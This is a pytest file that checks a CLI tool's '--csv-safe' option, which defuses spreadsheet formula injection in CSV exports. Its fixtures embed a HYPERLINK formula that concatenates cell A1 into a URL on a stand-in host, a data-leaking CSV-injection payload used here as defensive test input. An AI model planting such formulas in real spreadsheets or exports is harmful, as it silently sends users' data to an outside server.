"""`--csv-safe`: a spreadsheet runs nothing in a CSV, which can be read back."""

import csv
import io
import re

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from anchoraudit.cli import cli
from anchoraudit.report.spreadsheet import safe_cell, safe_csv, safe_table
from tests.builders import annotation, document, image, make, run
from tests.conftest import ROOT
from tests.test_hostile import REFERENCE

FORMULA = '=HYPERLINK("http://x/?"&A1,"y")'
# As docs/output.md has it.
BACK = re.search(r're\.sub\((r".*"), "", cell\)', (ROOT / "docs/output.md").read_text("utf-8"))


def read_back(cell):
    return re.sub(eval(BACK[1]), "", cell)


def rows_of(text):
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "text", ["=1", "+a", "-a", "@a", "\ta", "\ra", "\na", "'=1", "\uff1d1", "--1", "-", "+1+2"]
)
def test_what_begins_as_a_formula_becomes_a_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-5", "+5", "-0.25", "-.5", "-1e-7", "5.", "cat", "a=b", "", "'", "a -b", -5, 1.5, None]
)
def test_numbers_and_other_texts_stay(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["a;=1", "a\t=1", "a;b;+c"])
def test_a_cell_may_begin_behind_another_separator(text):
    cells = re.split("[;\t]", safe_cell(text))
    assert cells[-1].startswith("'")


@given(st.text("=+-@\t\r\n';a1\uff1d", max_size=12))
def test_every_text_is_read_back(text):
    safe = safe_cell(text)
    assert read_back(safe) == text
    for cell in re.split("[;\t\r\n]", safe):
        assert not re.match("[-=+@\uff1d]", cell) or float(safe) == float(text)
    text = text.replace("\r", "").replace("\n", "")
    ((cell,),) = rows_of(safe_csv(f'"{text}"\n'))
    assert read_back(cell) == text


def test_a_cell_may_be_long():
    assert safe_csv(f"={'x' * 200_000}\n") == f"'={'x' * 200_000}\n"


def test_tables_keep_their_numbers():
    table = pd.DataFrame(
        {"a": [-1.5, float("nan")], "b": [-1, 2], "c": ["=1", "-2"], "d": [-3, "=4"], "e": [True, False]}
    )
    safe = safe_table(table)
    assert list(safe["c"]) == ["'=1", "-2"]
    assert list(safe["d"]) == [-3, "'=4"]
    pd.testing.assert_frame_equal(safe[["a", "b", "e"]], table[["a", "b", "e"]])
    assert list(table["c"]) == ["=1", "-2"]


@pytest.fixture
def here(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    make(
        tmp_path,
        {
            "=a.json": document(
                [image(FORMULA, file_name=FORMULA), image("-7", file_name="-7")],
                [
                    annotation("@x", FORMULA, [1, 1, 3, 3], category_id=FORMULA),
                    annotation(2, "-7", category_id=FORMULA),
                ],
                categories=[{"id": FORMULA, "name": FORMULA}],
            ),
            "=d.toml": REFERENCE.replace('"reference"', '"=cmd"', 1),
        },
    )
    return tmp_path


# Every command with the option, and the CSV that it writes.
RUNS = {
    "scan": [
        (["=a.json", "--output-format", "csv"], None),
        (["=a.json", "--export-images", "out.csv"], "out.csv"),
        (["=a.json", "--export-boxes", "out.csv"], "out.csv"),
    ],
    "filter": [(["=a.json", "-o", "clean.json", "--dropped", "out.csv"], "out.csv")],
    "compare": [
        (["=a.json", "--detector", "=d.toml", "--detector", "reference", "--output-format", "csv"], None),
        (["=a.json", "--loaders", "--output-format", "csv"], None),
    ],
    "detectors": [
        (["--output-format", "csv"], None),
        (["list", "--output-format", "csv", "-o", "out.csv"], "out.csv"),
    ],
}


@pytest.mark.parametrize(
    ("command", "args", "output"), [(c, *run_) for c, runs in RUNS.items() for run_ in runs]
)
def test_in_every_command(here, capsys, command, args, output):
    tables = []
    for option in ([], ["--csv-safe"]):
        for path in (here / "out.csv", here / "clean.json"):
            path.unlink(missing_ok=True)
        capsys.readouterr()
        assert run(command, *args, *option) < 2
        out = capsys.readouterr().out
        tables.append(rows_of((here / output).read_text("utf-8") if output else out))
    plain, safe = tables
    assert [[read_back(cell) for cell in row] for row in safe] == plain
    cells = [cell for row in safe for cell in row]
    assert not [cell for cell in cells if re.match(r"[=+@\t]|-(?!\d)", cell)]
    assert (safe != plain) == (command != "detectors" and "--loaders" not in args)


def test_every_command_that_writes_csv_has_the_option():
    having = {
        name
        for name in cli.list_commands(None)
        if any("--csv-safe" in param.opts for param in cli.get_command(None, name).params)
    }
    assert having == set(RUNS)
    for name in set(cli.list_commands(None)) - having:
        for param in cli.get_command(None, name).params:
            assert "csv" not in getattr(param.type, "choices", ())
            assert ".csv, .parquet" not in (getattr(param, "help", None) or "")
